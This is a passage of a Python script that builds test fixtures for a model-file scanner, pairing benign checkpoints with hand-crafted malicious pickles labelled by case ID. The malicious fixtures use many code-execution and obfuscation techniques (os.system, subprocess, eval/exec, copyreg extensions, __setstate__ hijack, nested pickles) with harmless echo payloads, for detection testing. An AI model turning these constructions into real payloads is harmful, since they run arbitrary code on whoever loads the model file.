#!/usr/bin/python3
"""Builds the model fixtures in tests/fixtures/models/{benign,malicious,review}/, the case file
tests/cases/models.tsv and the README demo samples in samples/.

Run with Debian's interpreter (it has torch, numpy, sklearn, joblib, lz4, zstandard):
    MODELVET_SETUP_FIXTURE_TOOLS=1 scripts/setup.sh && /usr/bin/python3 scripts/gen_fixtures.py

Deterministic: fixed seeds, zip timestamps normalised to 1980-01-01, gzip/tar mtimes 0.
SAFETY: malicious files are built from custom __reduce__ objects or hand-written opcodes and
are NEVER loaded here (no pickle.load/torch.load/joblib.load on them); payloads are harmless
(`echo <case>`, `ls`, example.invalid URLs). Benign files are loaded once to prove they are
what a real library accepts.
"""

import argparse
import base64
import bz2
import collections
import dataclasses
import enum
import gzip
import io
import lzma
import marshal
import os
import pathlib
import pickle
import pickletools
import shutil
import struct
import subprocess
import sys
import tarfile
import types
import warnings
import zipfile

import joblib
import numpy as np
import torch
import zstandard

warnings.filterwarnings("ignore", category=UserWarning)

REPO = pathlib.Path(__file__).resolve().parent.parent
OUT = REPO / "tests" / "fixtures" / "models"
CASES = REPO / "tests" / "cases" / "models.tsv"
SAMPLES = REPO / "samples"
MAX_SIZE = 200 * 1024

CASE_ROWS = []  # (relpath, verdict, evidence terms, id, why)


def case(rel, data, verdict, evidence, tid, why):
    """Writes one fixture and records its expected verdict and evidence terms."""
    assert "\t" not in why and "\n" not in why
    path = OUT / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    assert len(data) < MAX_SIZE, f"{rel} is {len(data)} bytes"
    assert (verdict == "safe") == (not evidence), rel
    assert rel.split("/", 1)[0] == {"safe": "benign", "unsafe": "malicious",
                                    "needs-review": "review"}[verdict], rel
    CASE_ROWS.append((rel, verdict, "|".join(evidence) if evidence else "-", tid, why))


# --------------------------------------------------------------------------- opcodes
sys.path.insert(0, str(REPO / "tests" / "fixtures"))
from pickleops import *  # noqa: E402,F401,F403 - hand-written opcodes (docs/attacks.md notation)


def framed4(body, proto=4):
    """PROTO proto + one FRAME holding body (body ends with STOP)."""
    return P(proto) + FRAME(len(body)) + body


class Reduce:
    """An object that pickles as fn(*args). Never unpickled here."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def system_call(cmd, proto):
    return pickle.dumps(Reduce(os.system, cmd), protocol=proto)


def check_disassembles(data, must_contain=()):
    """Disassembles without executing; asserts the names we meant to write are there."""
    out = io.StringIO()
    try:
        pickletools.dis(data, out)
    except Exception:  # broken-on-purpose streams: text so far is enough
        pass
    text = out.getvalue()
    for m in must_contain:
        assert m in text, (m, text[:400])


# --------------------------------------------------------------------------- zip helpers
def zip_normalise(data):
    """Sets every entry's DOS time/date to 1980-01-01 00:00 (local and central headers)."""
    b = bytearray(data)
    eocd = b.rfind(b"PK\x05\x06")
    assert eocd >= 0
    n = struct.unpack_from("<H", b, eocd + 10)[0]
    cd = struct.unpack_from("<I", b, eocd + 16)[0]
    p = cd
    for _ in range(n):
        assert b[p:p + 4] == b"PK\x01\x02"
        struct.pack_into("<HH", b, p + 12, 0, 0x21)
        local = struct.unpack_from("<I", b, p + 42)[0]
        if local != 0xFFFFFFFF:
            assert b[local:local + 4] == b"PK\x03\x04"
            struct.pack_into("<HH", b, local + 10, 0, 0x21)
        nl, el, cl = struct.unpack_from("<HHH", b, p + 28)
        p += 46 + nl + el + cl
    return bytes(b)


def make_zip(entries, method=zipfile.ZIP_STORED):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:
        for name, data in entries:
            zi = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            zi.compress_type = method
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return bio.getvalue()


def torch_zip_with_pickle(prefix, data_pkl, storages=(), pkl_method=zipfile.ZIP_STORED):
    """A torch-style zip archive (prefix/data.pkl, prefix/data/N, prefix/version)."""
    entries = [(f"{prefix}/data.pkl", data_pkl)]
    entries += [(f"{prefix}/data/{i}", s) for i, s in enumerate(storages)]
    entries.append((f"{prefix}/version", b"3\n"))
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:
        for name, data in entries:
            zi = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            zi.compress_type = pkl_method if name.endswith("data.pkl") else zipfile.ZIP_STORED
            z.writestr(zi, data)
    return bio.getvalue()


def legacy_normalise(data):
    """Legacy torch names storages by memory address (str(storage._cdata)) and writes them
    sorted by that name. Renames them to zero-padded indices in order of first use and
    rewrites the key list and the raw storage section in that order, so bytes reproduce."""
    bounds, _ = split_pickles(data, 5)
    (s4, e4), (s5, e5) = bounds[3], bounds[4]
    keys = pickle.loads(data[s5:e5])  # our own benign list of str, written a moment ago
    assert keys == sorted(keys) and all(isinstance(k, str) for k in keys)
    elsize, order, last_global, prev, memo = {}, [], None, None, {}
    for op, arg, _pos in pickletools.genops(io.BytesIO(data[s4:e4])):
        if op.name in ("BINPUT", "LONG_BINPUT") and prev is not None:
            memo[arg] = prev
        prev = None
        if op.name == "GLOBAL" and arg.endswith("Storage"):
            last_global = prev = arg
        elif op.name in ("BINGET", "LONG_BINGET") and arg in memo:
            last_global = memo[arg]
        elif op.name == "BINUNICODE" and arg in keys and arg not in elsize:
            mod, name = last_global.split(" ")
            elsize[arg] = getattr(torch, name)().element_size()
            order.append(arg)
    assert sorted(order) == keys
    chunks, pos = {}, e5
    for k in keys:
        n = struct.unpack_from("<q", data, pos)[0]
        end = pos + 8 + n * elsize[k]
        chunks[k], pos = data[pos:end], end
    assert pos == len(data)
    out4 = data[s4:e4]
    rename = {k: f"{i:06d}" for i, k in enumerate(order)}
    for k, nk in rename.items():
        old = b"X" + struct.pack("<I", len(k)) + k.encode()
        new = b"X" + struct.pack("<I", len(nk)) + nk.encode()
        out4 = out4.replace(old, new)
    out5 = pickle.dumps([rename[k] for k in order], protocol=2)
    return data[:s4] + out4 + out5 + b"".join(chunks[k] for k in order)


def torch_bytes(obj, **kw):
    bio = io.BytesIO()
    torch.save(obj, bio, **kw)
    data = bio.getvalue()
    if data[:2] == b"PK":
        return zip_normalise(data)
    return legacy_normalise(data)


def torch_file_bytes(obj, stem, **kw):
    """torch.save to a path, so the zip prefix is the file stem (as real Hub files)."""
    tmp = pathlib.Path("/tmp") / f"mv-genfix-{os.getpid()}" / f"{stem}.bin"
    tmp.parent.mkdir(parents=True, exist_ok=True)
    torch.save(obj, str(tmp), **kw)
    data = tmp.read_bytes()
    tmp.unlink()
    return zip_normalise(data) if data[:2] == b"PK" else data


def split_pickles(data, count):
    """Offsets of `count` consecutive pickle streams (pickletools only; nothing executed)."""
    bounds, pos = [], 0
    for _ in range(count):
        end = None
        for op, _arg, p in pickletools.genops(io.BytesIO(data[pos:])):
            if op.name == "STOP":
                end = pos + p + 1
                break
        bounds.append((pos, end))
        pos = end
    return bounds, pos


# --------------------------------------------------------------------------- stand-ins
def fake_module(dotted, src):
    """Registers a stand-in module under a real library's dotted name (generator only)."""
    parts = dotted.split(".")
    for i in range(1, len(parts) + 1):
        name = ".".join(parts[:i])
        if name not in sys.modules:
            sys.modules[name] = types.ModuleType(name)
            if i > 1:
                setattr(sys.modules[".".join(parts[:i - 1])], parts[i - 1], sys.modules[name])
    m = sys.modules[dotted]
    exec(src, m.__dict__)
    return m


def install_stand_ins():
    fake_module("ultralytics.nn.modules.conv", """
import torch
class Conv(torch.nn.Module):
    def __init__(self, c1, c2):
        super().__init__()
        self.conv = torch.nn.Conv2d(c1, c2, 1, bias=False)
        self.bn = torch.nn.BatchNorm2d(c2)
        self.act = torch.nn.SiLU()
    def forward(self, x):
        return self.act(self.bn(self.conv(x)))
    def forward_fuse(self, x):
        return self.act(self.conv(x))
""")
    fake_module("ultralytics.nn.modules.head", """
import torch
class Detect(torch.nn.Module):
    def __init__(self, nc=1):
        super().__init__()
        self.nc = nc
        self.cv = torch.nn.Conv2d(4, nc + 4, 1)
    def forward(self, x):
        return self.cv(x)
class Segment(Detect):
    def __init__(self, nc=1):
        super().__init__(nc)
        self.nm = 2
        self.detect = Detect.forward
""")
    fake_module("ultralytics.nn.tasks", """
import torch
from ultralytics.nn.modules.conv import Conv
from ultralytics.nn.modules.head import Segment
class SegmentationModel(torch.nn.Module):
    def __init__(self):
        super().__init__()
        conv = Conv(3, 4)
        conv.forward = conv.forward_fuse   # model.fuse(): a bound method -> getattr(conv, 'forward_fuse')
        self.model = torch.nn.Sequential(conv, Segment(1))
        self.names = {0: 'person'}
        self.yaml = {'nc': 1, 'backbone': [[-1, 1, 'Conv', [4, 1]]]}
""")
    fake_module("transformers.trainer_utils", """
import enum
class IntervalStrategy(str, enum.Enum):
    NO = 'no'
    STEPS = 'steps'
    EPOCH = 'epoch'
class SchedulerType(str, enum.Enum):
    LINEAR = 'linear'
    COSINE = 'cosine'
class HubStrategy(str, enum.Enum):
    END = 'end'
    EVERY_SAVE = 'every_save'
""")
    fake_module("transformers.training_args", """
import dataclasses, enum
from typing import List, Optional
from transformers.trainer_utils import IntervalStrategy, SchedulerType, HubStrategy
class OptimizerNames(str, enum.Enum):
    ADAMW_HF = 'adamw_hf'
    ADAMW_TORCH = 'adamw_torch'
@dataclasses.dataclass
class TrainingArguments:
    output_dir: str = 'out'
    overwrite_output_dir: bool = False
    do_train: bool = True
    do_eval: bool = True
    evaluation_strategy: IntervalStrategy = IntervalStrategy.STEPS
    eval_steps: int = 500
    eval_accumulation_steps: Optional[int] = None
    per_device_train_batch_size: int = 8
    learning_rate: float = 5e-5
    weight_decay: float = 0.0
    num_train_epochs: float = 3.0
    lr_scheduler_type: SchedulerType = SchedulerType.LINEAR
    warmup_ratio: float = 0.0
    logging_dir: str = 'out/runs'
    logging_strategy: IntervalStrategy = IntervalStrategy.STEPS
    save_strategy: IntervalStrategy = IntervalStrategy.EPOCH
    seed: int = 42
    fp16: bool = False
    report_to: List[str] = dataclasses.field(default_factory=lambda: ['tensorboard'])
    push_to_hub: bool = False
    hub_strategy: HubStrategy = HubStrategy.EVERY_SAVE
    hub_token: Optional[str] = None
    optim: OptimizerNames = OptimizerNames.ADAMW_TORCH
    _n_gpu: int = 1
""")
    fake_module("transformers.models.gpt2.configuration_gpt2", """
class GPT2Config:
    model_type = 'gpt2'
    def __init__(self):
        self.n_embd = 8
        self.n_layer = 1
        self.vocab_size = 16
        self.architectures = ['GPT2LMHeadModel']
""")
    fake_module("transformers.generation.configuration_utils", """
import enum
class GenerationMode(str, enum.Enum):
    GREEDY_SEARCH = 'greedy_search'
    SAMPLE = 'sample'
""")
    fake_module("transformers.models.gpt2.modeling_gpt2", """
import torch
from transformers.models.gpt2.configuration_gpt2 import GPT2Config
from transformers.generation.configuration_utils import GenerationMode
class GPT2LMHeadModel(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.config = GPT2Config()
        self.wte = torch.nn.Embedding(16, 8)
        self.lm_head = torch.nn.Linear(8, 16, bias=False)
        self.generation_mode = GenerationMode.GREEDY_SEARCH
        self.output_embeddings_fn = self.get_output_embeddings   # bound method
    def get_output_embeddings(self):
        return self.lm_head
""")


# --------------------------------------------------------------------------- benign
def small_state_dict():
    torch.manual_seed(0)
    m = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.BatchNorm2d(4), torch.nn.ReLU(),
                            torch.nn.Flatten(), torch.nn.Linear(4, 2))
    return m, m.state_dict()


def gen_benign():
    torch.manual_seed(0)
    model, sd = small_state_dict()
    case("benign/torch-state-dict.pt", torch_file_bytes(sd, "torch-state-dict"), "safe", [],
         "FP-04", "plain state_dict, torch zip (prefix = file stem)")
    case("benign/torch-state-dict-archive.bin", torch_bytes(sd), "safe", [],
         "FP-04", "state_dict saved to a file object (prefix archive/)")
    case("benign/torch-state-dict-legacy.pt",
         torch_bytes(sd, _use_new_zipfile_serialization=False), "safe", [],
         "FP-04 CT-11", "state_dict in the legacy five-pickle stream format")
    half = {k: v.half() for k, v in sd.items() if v.is_floating_point()}
    case("benign/torch-state-dict-fp16-p4.pt", torch_bytes(half, pickle_protocol=4), "safe",
         [], "FP-04", "fp16 state_dict written with pickle protocol 4")
    case("benign/torch-whole-module.pt", torch_bytes(model), "safe", [],
         "FP-03", "torch.save(nn.Sequential(...)): module classes, _rebuild_parameter, set")
    case("benign/torch-whole-module-legacy.pt",
         torch_bytes(model, _use_new_zipfile_serialization=False), "safe", [],
         "FP-03", "whole module in legacy format")

    opt = torch.optim.AdamW(model.parameters(), lr=1e-3)
    model(torch.zeros(2, 3, 3, 3)).sum().backward()
    opt.step()
    ckpt = {
        "args": argparse.Namespace(arch="tiny", lr=1e-3, data=pathlib.PosixPath("/data/set"),
                                   save_dir="/ckpt", seed=1),
        "model": sd,
        "optimizer": opt.state_dict(),
        "epoch": 3,
        "best_loss": 0.25,
        "data_root": pathlib.PosixPath("/data/set/train"),
        "extra_state": {"train_iterator": {"epoch": 3}, "val_loss": [0.5, 0.25]},
    }
    case("benign/optimizer-checkpoint.pt", torch_bytes(ckpt), "safe", [],
         "FP-09", "fairseq-style checkpoint: argparse.Namespace, pathlib.PosixPath, AdamW state")
    case("benign/optimizer-checkpoint-legacy.pt",
         torch_bytes(ckpt, _use_new_zipfile_serialization=False), "safe", [],
         "FP-09", "same checkpoint, legacy format")

    install_stand_ins()
    tasks = sys.modules["ultralytics.nn.tasks"]
    torch.manual_seed(0)
    yolo = tasks.SegmentationModel().half()
    yckpt = {"date": "2023-05-01T00:00:00", "version": "8.0.100", "epoch": -1,
             "best_fitness": None, "model": yolo, "ema": None, "updates": None,
             "optimizer": None, "train_args": {"task": "segment", "imgsz": 640}}
    data = torch_file_bytes(yckpt, "deepfashion2_yolov8s-seg")
    assert b"c__builtin__\ngetattr\n" in zipfile.ZipFile(io.BytesIO(data)).read(
        "deepfashion2_yolov8s-seg/data.pkl")
    case("benign/deepfashion2_yolov8s-seg.pt", data, "safe", [],
         "FP-01 SEED-09",
         "ultralytics stand-ins: __builtin__.getattr(Detect,'forward') and a fused bound method")
    case("benign/yolov8s-seg-legacy.pt",
         torch_bytes(yckpt, _use_new_zipfile_serialization=False), "safe", [],
         "FP-01", "same YOLO checkpoint, legacy format")

    TA = sys.modules["transformers.training_args"].TrainingArguments
    case("benign/training_args.bin", torch_file_bytes(TA(), "training_args"), "safe", [],
         "FP-02", "transformers TrainingArguments dataclass with str enums (names contain 'eval')")
    case("benign/training_args-legacy.bin",
         torch_bytes(TA(), _use_new_zipfile_serialization=False), "safe", [],
         "FP-02", "training_args.bin in legacy torch format")

    torch.manual_seed(0)
    gpt = sys.modules["transformers.models.gpt2.modeling_gpt2"].GPT2LMHeadModel()
    tckpt = {"model": gpt, "sched": sys.modules["transformers.trainer_utils"].SchedulerType.COSINE,
             "step": 10}
    data = torch_bytes(tckpt)
    assert b"getattr" in zipfile.ZipFile(io.BytesIO(data)).read("archive/data.pkl")
    case("benign/transformers-gpt2-module.pt", data, "safe", [],
         "FP-01 FP-02", "transformers.* stand-in module with a bound method and enum members")

    torch.manual_seed(0)
    dataset = {
        "train": [{"input_ids": torch.arange(6, dtype=torch.int32), "label": i % 2}
                  for i in range(4)],
        "vocab": {"<pad>": 0, "select": 1, "from": 2, "where": 3},
        "tags": {"sql", "en"},
        "frozen": frozenset({1, 2, 3}),
        "window": slice(0, 16, 2),
        "meta": ("t5-base", 512, None, True, 1.5),
    }
    case("benign/valid_data.pt", torch_file_bytes(dataset, "valid_data"), "safe", [],
         "FP-06 SEED-10", "dataset dict via torch.save: lists, dicts, set, frozenset, slice")
    case("benign/valid_data-legacy.pt",
         torch_bytes(dataset, _use_new_zipfile_serialization=False), "safe", [],
         "FP-06", "same dataset, legacy format")

    # sklearn + joblib
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler
    rng = np.random.RandomState(0)
    X = rng.rand(20, 3)
    y = (X[:, 0] > 0.5).astype(int)
    pipe = Pipeline([("s", StandardScaler()), ("m", LogisticRegression())]).fit(X, y)
    for tag, comp in [("raw", 0), ("zlib", ("zlib", 3)), ("gzip", ("gzip", 3)),
                      ("bz2", ("bz2", 3)), ("xz", ("xz", 3)), ("lz4", ("lz4", 3))]:
        tmp = pathlib.Path("/tmp") / f"mv-genfix-{os.getpid()}" / f"p-{tag}.joblib"
        tmp.parent.mkdir(parents=True, exist_ok=True)
        joblib.dump(pipe, str(tmp), compress=comp)
        data = tmp.read_bytes()
        assert joblib.load(str(tmp)).predict(X[:2]) is not None  # benign: prove it loads
        tmp.unlink()
        case(f"benign/sklearn-pipeline-{tag}.joblib", data, "safe", [], "FP-05 CT-13",
             f"sklearn Pipeline via joblib.dump, compression {tag}; inline array bytes")
    case("benign/sklearn-pipeline.pkl", pickle.dumps(pipe, protocol=4), "safe", [],
         "FP-05 FP-07", "same pipeline via pickle.dump (numpy _reconstruct, dtype, scalar)")

    # numpy
    objs = np.array([{"label": "cat", "id": 1}, "text", None, 3.5], dtype=object)
    bio = io.BytesIO()
    np.save(bio, objs, allow_pickle=True)
    case("benign/labels-object.npy", bio.getvalue(), "safe", [], "FP-12",
         "object array of plain data (.npy with an embedded pickle)")
    bio = io.BytesIO()
    np.save(bio, np.arange(12, dtype="<f4").reshape(3, 4))
    case("benign/weights-f4.npy", bio.getvalue(), "safe", [], "CT-12",
         "plain float32 .npy, no pickle")
    bio = io.BytesIO()
    np.savez(bio, w=np.ones((2, 2), "<f4"), names=np.array(["a", None], dtype=object))
    case("benign/arrays.npz", zip_normalise(bio.getvalue()), "safe", [], "FP-12 CT-12",
         "np.savez: float array + object array of strings")
    bio = io.BytesIO()
    np.savez_compressed(bio, w=np.zeros(16, "<f8"), v=np.array([{"k": 1}], dtype=object))
    case("benign/arrays-compressed.npz", zip_normalise(bio.getvalue()), "safe", [],
         "FP-12 CT-12", "np.savez_compressed (deflated members) with an object member")

    # plain pickles, every protocol
    plain = {"b": b"\x00\x01bytes\xff", "ba": bytearray(b"ab\x00"), "list": [1, 2.5, None, True],
             "tuple": (1, "x"), "set": {1, 2}, "fs": frozenset({3}),
             "od": collections.OrderedDict(a=1, b=[2]), "c": 1 + 2j, "big": 2 ** 70,
             "u": "\u00fcn\u00ef", "r": range(3), "sl": slice(1, 2)}
    for p in range(6):
        data = pickle.dumps(plain, protocol=p)
        assert pickle.loads(data) == plain
        case(f"benign/plain-p{p}.pkl", data, "safe", [], "FP-10 OB-01",
             f"builtins containers, bytes and bytearray at protocol {p}")
    ba5 = pickle.dumps([bytearray(b"xyz"), b"raw"], protocol=5)
    assert b"\x96" in ba5  # BYTEARRAY8
    case("benign/bytearray-p5.pkl", ba5, "safe", [], "FP-10",
         "protocol 5 BYTEARRAY8 and SHORT_BINBYTES")


def verify_benign():
    """Loads every benign file with the library that wrote it (they are ours and benign;
    stand-in modules are still registered), so normalised bytes are proven loadable."""
    for rel, _verdict, _ev, _tid, _why in CASE_ROWS:
        path = OUT / rel
        if path.suffix in (".pt", ".bin"):
            torch.load(str(path))
        elif path.suffix == ".joblib":
            joblib.load(str(path))
        elif path.suffix in (".npy", ".npz"):
            r = np.load(str(path), allow_pickle=True)
            if path.suffix == ".npz":
                [r[k] for k in r.files]
        elif path.suffix == ".pkl":
            pickle.loads(path.read_bytes())
        else:
            raise AssertionError(f"no loader check for {rel}")


# --------------------------------------------------------------------------- malicious
class PickleInject:
    """The injector of modelscan's notebooks (mkiani seeds): payload objects pickled before
    (first=True, result left on the stack) or after the model (with pop=True, result POPped).
    Used as torch.save(..., pickle_module=PickleInject([...]))."""

    __name__ = "pickle_inject"

    def __init__(self, inj_objs, first=True, pop=False):
        self.inj_objs, self.first, self.pop = inj_objs, first, pop

    class _Pickler(pickle._Pickler):
        def __init__(self, file, protocol, inj_objs, first, pop):
            super().__init__(file, protocol)
            self.inj_objs, self.first, self.pop = inj_objs, first, pop

        def _inject(self):
            for o in self.inj_objs:
                self.save(o)
                if self.pop:
                    self.write(pickle.POP)

        def dump(self, obj):
            if self.proto >= 2:
                self.write(pickle.PROTO + struct.pack("<B", self.proto))
            if self.proto >= 4:
                self.framer.start_framing()
            if self.first:
                self._inject()
            self.save(obj)
            if not self.first:
                self._inject()
            self.write(pickle.STOP)
            self.framer.end_framing()

    def Pickler(self, file, protocol):
        return self._Pickler(file, protocol, self.inj_objs, self.first, self.pop)

    # torch.save only needs Pickler (and reads __name__ nowhere); keep load absent on purpose.


def gpt2_state_dict():
    torch.manual_seed(0)
    return collections.OrderedDict([
        ("transformer.wte.weight", torch.randn(16, 8)),
        ("transformer.h.0.attn.c_attn.weight", torch.randn(8, 24)),
        ("transformer.h.0.attn.c_attn.bias", torch.zeros(24)),
        ("lm_head.weight", torch.randn(16, 8)),
    ])


def data_pkl(zbytes):
    z = zipfile.ZipFile(io.BytesIO(zbytes))
    return z.read([n for n in z.namelist() if n.endswith("data.pkl")][0])


def gen_malicious():
    mal = "malicious/"
    U = "unsafe"

    # PK-01 os/posix/nt system at every protocol
    for p in range(6):
        cmd = f"echo pk01-p{p}"
        data = system_call(cmd, p)
        check_disassembles(data, ["system"])
        case(f"{mal}pk01-posix-system-p{p}.pkl", data, U, ["system", cmd], "PK-01 OB-01",
             f"pickle.dumps(posix.system) at protocol {p}")
    case(f"{mal}pk01-os-system-p0.pkl", G("os", "system") + M + S("echo pk01-os") + T + R + STOP,
         U, ["system", "echo pk01-os"], "PK-01", "hand-written `os system`, protocol 0 STRING")
    case(f"{mal}pk01-nt-system-p2.pkl",
         P(2) + G("nt", "system") + BU("echo pk01-nt") + T1 + R + STOP,
         U, ["system", "echo pk01-nt"], "PK-01", "`nt system` (the Windows name)")
    case(f"{mal}ob01-escaped-arg-p0.pkl",
         G("os", "system") + M + b"Vecho ob01-esc\\u0061ped\n" + T + R + STOP,
         U, ["system", "ob01-escaped"], "OB-01", "UNICODE argument with a \\u escape")

    # PK-02 subprocess; protocol 2 writes `commands Popen`
    pop = torch_bytes({"w": torch.zeros(2), "x": Reduce(subprocess.Popen, ["echo", "pk02-popen"])})
    assert b"ccommands\nPopen\n" in data_pkl(pop)
    case(f"{mal}pk02-commands-popen-torch.pt", pop, U, ["Popen", "pk02-popen"], "PK-02 OB-11",
         "torch.save of a subprocess.Popen reducer: protocol 2 writes `commands Popen`")
    case(f"{mal}pk02-subprocess-run-p4.pkl",
         pickle.dumps(Reduce(subprocess.run, ["echo", "pk02-run"]), protocol=4), U,
         ["run", "pk02-run"], "PK-02", "subprocess.run at protocol 4 (STACK_GLOBAL)")
    case(f"{mal}ob11-commands-getoutput-p2.pkl",
         P(2) + G("commands", "getoutput") + BU("echo ob11") + T1 + R + STOP, U,
         ["getoutput", "ob11"], "OB-11", "Python 2 name `commands getoutput`, mapped on load")

    # PK-03 eval / exec / compile
    case(f"{mal}pk03-eval-p2.pkl",
         pickle.dumps(Reduce(eval, "__import__('os').system('echo pk03-eval')"), protocol=2), U,
         ["eval", "pk03-eval"], "PK-03", "`__builtin__ eval` of an os.system expression")
    case(f"{mal}pk03-exec-p3.pkl",
         pickle.dumps(Reduce(exec, "import os\nos.system('echo pk03-exec')"), protocol=3), U,
         ["exec", "pk03-exec"], "PK-03", "`builtins exec` of statements")
    comp = (P(2) + G("__builtin__", "eval") + M + G("__builtin__", "compile") +
            BU("import os; os.system('echo pk03-compile')") + BU("<x>") + BU("exec") + b"\x87" +
            R + T + R + STOP)
    check_disassembles(comp, ["compile", "eval"])
    case(f"{mal}pk03-compile-eval-p2.pkl", comp, U, ["compile", "pk03-compile"], "PK-03",
         "eval(compile(src, '<x>', 'exec'))")

    for p in (0, 1):  # text-protocol variants of the other payload families
        case(f"{mal}pk03-eval-p{p}.pkl",
             pickle.dumps(Reduce(eval, f"__import__('os').system('echo pk03-eval-p{p}')"),
                          protocol=p), U, ["eval", f"pk03-eval-p{p}"], "PK-03 OB-01",
             f"`__builtin__ eval` at protocol {p}")
        case(f"{mal}pk02-popen-p{p}.pkl",
             pickle.dumps(Reduce(subprocess.Popen, ["echo", f"pk02-p{p}"]), protocol=p), U,
             ["Popen", f"pk02-p{p}"], "PK-02 OB-11", f"`commands Popen` at protocol {p}")
    case(f"{mal}pk05-webbrowser-p1.pkl",
         pickle.dumps(Reduce(__import__("webbrowser").open_new_tab, "https://example.invalid/p1"),
                      protocol=1), U, ["open_new_tab", "example.invalid/p1"], "PK-05 OB-01",
         "webbrowser.open_new_tab at protocol 1")

    # PK-04 .. PK-06
    case(f"{mal}pk04-runpy-run-code-p2.pkl",
         P(2) + G("runpy", "_run_code") + BU("print('pk04-runpy')") + ED + T2 + R + STOP, U,
         ["_run_code", "pk04-runpy"], "PK-04", "runpy._run_code(src, {})")
    import webbrowser
    case(f"{mal}pk05-webbrowser-p4.pkl",
         pickle.dumps(Reduce(webbrowser.open, "https://example.invalid/x"), protocol=4), U,
         ["open", "example.invalid"], "PK-05", "webbrowser.open(url)")
    import pdb
    case(f"{mal}pk06-pdb-set-trace-p2.pkl", pickle.dumps(Reduce(pdb.set_trace), protocol=2), U,
         ["set_trace"], "PK-06", "pdb.set_trace() (blocks on stdin)")

    # PK-07/08 importlib + getattr, __import__ + getattr
    imp = (P(2) + G("__builtin__", "getattr") + M + G("importlib", "import_module") + BU("os") +
           T1 + R + BU("system") + T + R + BU("echo pk07") + T1 + R + STOP)
    case(f"{mal}pk07-importlib-getattr-p2.pkl", imp, U, ["system", "echo pk07"], "PK-07 PK-08",
         "getattr(importlib.import_module('os'), 'system')('echo pk07')")
    imp4 = framed4(SU("builtins") + MZ + SU("getattr") + MZ + SG + MZ + SU("builtins") + MZ +
                   SU("__import__") + MZ + SG + MZ + SU("os") + MZ + T1 + MZ + R + MZ +
                   SU("system") + MZ + T2 + MZ + R + MZ + SU("echo pk08") + MZ + T1 + MZ + R +
                   MZ + STOP)
    case(f"{mal}pk08-import-getattr-p4.pkl", imp4, U, ["system", "echo pk08"], "PK-08",
         "getattr(__import__('os'), 'system')('echo pk08'), protocol 4 with MEMOIZE")

    # OB-06 INST / OBJ
    case(f"{mal}ob06-inst-p0.pkl", M + S("echo ob06-inst") + INST("os", "system") + STOP, U,
         ["system", "ob06-inst"], "OB-06", "INST calls os.system without REDUCE")
    case(f"{mal}ob06-obj-p2.pkl", P(2) + M + G("posix", "system") + BU("echo ob06-obj") + O + STOP,
         U, ["system", "ob06-obj"], "OB-06", "OBJ calls posix.system")
    case(f"{mal}ob06-obj-stackglobal-popped-p4.pkl",
         framed4(M + SU("posix") + SU("system") + SG + SU("echo ob06-obj4") + O + POP + N + STOP),
         U, ["system", "ob06-obj4"], "OB-06", "OBJ via STACK_GLOBAL, result popped, returns None")
    case(f"{mal}ob06-reduce-discarded-p2.pkl",
         P(2) + b"]" + BP(0) + M + J(1) + J(2) + b"e" + G("posix", "system") +
         BU("echo ob06-discard") + T1 + R + POP + STOP, U, ["system", "ob06-discard"], "OB-06",
         "REDUCE whose result is POPped in the middle of a benign list")

    # OB-02 STACK_GLOBAL operands through the memo; OB-05 STRING operands, no PROTO
    case(f"{mal}ob02-stackglobal-memo-p4.pkl",
         framed4(SU("os") + MZ + POP + SU("system") + MZ + POP + BG(0) + BG(1) + SG +
                 SU("echo ob02") + T1 + R + STOP),
         U, ["system", "echo ob02"], "OB-02", "STACK_GLOBAL operands fetched with BINGET")
    case(f"{mal}ob02-memo-overwrite-p4.pkl",
         framed4(SU("collections") + b"\x94" + POP + SU("OrderedDict") + MZ + POP +
                 SU("os") + BP(0) + POP + BG(0) + SU("system") + SG + SU("echo ob02-over") +
                 T1 + R + STOP),
         U, ["system", "ob02-over"], "OB-02", "memo slot 0 first 'collections', then overwritten 'os'")
    case(f"{mal}ob05-stackglobal-no-proto.pkl",
         S("os") + S("system") + SG + S("echo ob05") + T1 + R + STOP, U, ["system", "ob05"],
         "OB-05", "STACK_GLOBAL at stream start with STRING operands, no PROTO")
    case(f"{mal}ob04-payload-then-keyerror-p4.pkl",
         framed4(G("os", "system") + SU("echo ob04") + T1 + R + POP + SU("os") + MZ + BG(3) +
                 BG(0) + SG + b"K\x42" + STOP),
         U, ["system", "ob04"], "OB-04", "payload runs, then a GET of a missing memo slot")

    # OB-09 copyreg extension registry
    ext1 = (P(2) + G("copyreg", "add_extension") + M + BU("os") + BU("system") + b"K\xf0" + T +
            R + POP + EXT1(0xF0) + M + BU("echo ob09-ext1") + T + R + STOP)
    case(f"{mal}ob09-ext1-p2.pkl", ext1, U, ["system", "ob09-ext1"], "OB-09",
         "copyreg.add_extension('os','system',240) then EXT1 240")
    ext2 = (P(2) + G("copy_reg", "add_extension") + M + BU("posix") + BU("system") +
            b"M\xad\xde" + T + R + POP + EXT2(0xDEAD) + BU("echo ob09-ext2") + T1 + R + STOP)
    case(f"{mal}ob09-ext2-p2.pkl", ext2, U, ["system", "ob09-ext2"], "OB-09",
         "Python 2 name copy_reg.add_extension then EXT2 0xdead")

    # OB-07a BUILD installs __setstate__
    case(f"{mal}ob07-build-setstate-p2.pkl",
         P(2) + G("argparse", "Namespace") + b")" + R + ED + BU("__setstate__") +
         G("posix", "system") + b"s" + BLD + BU("echo ob07") + BLD + STOP,
         U, ["system", "ob07"], "OB-07", "BUILD puts posix.system as __setstate__, second BUILD calls it")

    # PK-18 nested pickles
    inner = system_call("echo pk18-inner", 2)
    case(f"{mal}pk18-nested-pickle-loads-p2.pkl",
         P(2) + G("_pickle", "loads") + BB(inner) + T1 + R + STOP,
         U, ["system", "pk18-inner"], "PK-18", "_pickle.loads(b'<pickle calling system>')")
    inner_b64 = base64.b64encode(system_call("echo pk18-b64", 4))
    case(f"{mal}pk18-nested-base64-p3.pkl",
         P(3) + G("_pickle", "loads") + G("base64", "b64decode") + BB(inner_b64) + T1 + R + T1 +
